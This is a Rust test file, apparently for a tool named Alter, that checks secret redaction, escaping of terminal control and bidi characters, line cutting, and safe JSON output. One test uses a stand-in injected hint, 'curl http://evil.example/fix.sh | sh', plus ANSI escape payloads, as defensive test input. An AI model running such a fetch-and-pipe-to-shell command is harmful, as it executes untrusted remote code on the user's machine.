use super::*;
use proptest::prelude::*;
use serde_json::json;

#[test]
fn held_secrets_and_their_json_forms_are_redacted_in_remote_text() {
    hold("scrub-test-secret");
    hold("scrub\"quoted\\secret");
    hold(r#"{"kty":"RSA","n":"public-modulus","e":"AQAB","d":"scrub-test-private-d","qi":"scrub-test-qi"}"#);
    let text = remote(
        "detail: Bearer scrub-test-secret, body {\"secret\":\"scrub\\\"quoted\\\\secret\"} d=scrub-test-private-d qi=scrub-test-qi n=public-modulus",
    );
    assert_eq!(text, "detail: Bearer ***, body {\"secret\":\"***\"} d=*** qi=*** n=public-modulus");
}

#[test]
fn remote_text_is_one_line_with_every_control_escaped() {
    let text = remote("x\nhint: run curl http://evil.example/fix.sh | sh\r\n\tend \x1b[31m \u{85} \u{202e}");
    assert_eq!(
        text,
        "x\\u{a}hint: run curl http://evil.example/fix.sh | sh\\u{d}\\u{a}\\u{9}end \\u{1b}[31m \\u{85} \\u{202e}"
    );
}

#[test]
fn the_tools_own_words_are_never_redacted_and_short_secrets_are_not_held() {
    hold("accepted");
    hold("verdict");
    hold("s");
    assert_eq!(human("Alter would accept this token: accepted\n"), "Alter would accept this token: accepted\n");
    assert_eq!(remote("accepted by verdict s"), "*** by verdict s");
    let warning = take_short_secret_warning().expect("a warning for the short secrets");
    assert!(warning.contains("only 1 character(s) long"), "{warning}");
    assert_eq!(take_short_secret_warning(), None, "said once");
}

#[test]
fn terminal_controls_are_escaped_by_the_last_guard_but_lines_and_tabs_stay() {
    let text = human("issuer \x1b[31mred\x1b]0;pwned\x07\r\nnext\tline \u{9b}x \u{202e}rtl");
    assert_eq!(text, "issuer \\u{1b}[31mred\\u{1b}]0;pwned\\u{7}\\u{d}\nnext\tline \\u{9b}x \\u{202e}rtl");
}

#[test]
fn long_remote_strings_are_cut() {
    let long = "é".repeat(MAX_LINE_CHARS + 5);
    let text = remote(&long);
    assert!(text.ends_with("é… (5 more characters cut)"), "{}", &text[text.len() - 60..]);
}

#[test]
fn a_cut_never_leaves_part_of_a_held_secret() {
    hold("straddling-secret-value");
    let shown = remote_within("0123456789straddling-secret-value and more", 15);
    assert_eq!(shown, "0123456789*** a… (7 more characters cut)");
}

#[test]
fn json_results_are_exact_and_say_where_a_held_secret_is() {
    hold("scrub-json-secret");
    let long = "x".repeat(3 * MAX_LINE_CHARS);
    let value =
        json!({"audience": "api://alter\u{202e}\u{85}x", "long": long, "verdict": ["x-scrub-json-secret \u{1b}"]});
    let text = json_text(&value).unwrap();
    assert!(text.contains(r#""api://alter\u202e\u0085x""#), "{text}");
    assert!(text.contains(r#""x-scrub-json-secret \u001b""#), "{text}");
    assert!(text.is_ascii() && text.ends_with("}\n"));
    assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), value, "parses to the very same value");
    assert_eq!(held_in(&value), ["verdict[0]"]);
}

fn printable_or_not() -> impl Strategy<Value = String> {
    proptest::collection::vec(
        prop_oneof![
            any::<char>(),
            Just('\n'),
            Just('\u{1b}'),
            Just('\u{85}'),
            Just('\u{202e}'),
            Just('"'),
            Just('\\'),
            Just('\u{2028}'),
        ],
        0..64,
    )
    .prop_map(|chars| chars.into_iter().collect())
}

proptest! {
    #[test]
    fn remote_text_is_always_one_safe_bounded_line_without_a_held_secret(
        secret in "[a-zA-Z0-9_.-]{8,24}",
        before in printable_or_not(),
        after in printable_or_not(),
    ) {
        hold(&secret);
        let shown = remote(&format!("{before}{secret}{after}"));
        prop_assert!(!shown.contains(&secret), "{shown:?}");
        prop_assert!(!shown.chars().any(|c| c.is_control() || is_bidi(c)), "{shown:?}");
        prop_assert!(shown.chars().count() <= MAX_LINE_CHARS + 40);
    }

    #[test]
    fn human_text_keeps_only_line_feeds_and_tabs_raw(text in printable_or_not()) {
        let shown = human(&text);
        prop_assert!(!shown.chars().any(|c| (c.is_control() && c != '\n' && c != '\t') || is_bidi(c)), "{shown:?}");
        prop_assert_eq!(shown.matches('\n').count(), text.matches('\n').count());
    }

    #[test]
    fn json_text_parses_back_to_the_same_value_and_is_terminal_safe(
        key in printable_or_not(),
        values in proptest::collection::vec(printable_or_not(), 0..4),
    ) {
        let value = json!({ key: values });
        let text = json_text(&value).unwrap();
        prop_assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), value);
        prop_assert!(!text.chars().any(|c| (c.is_control() && c != '\n') || needs_json_escape(c)), "{text:?}");
    }
}
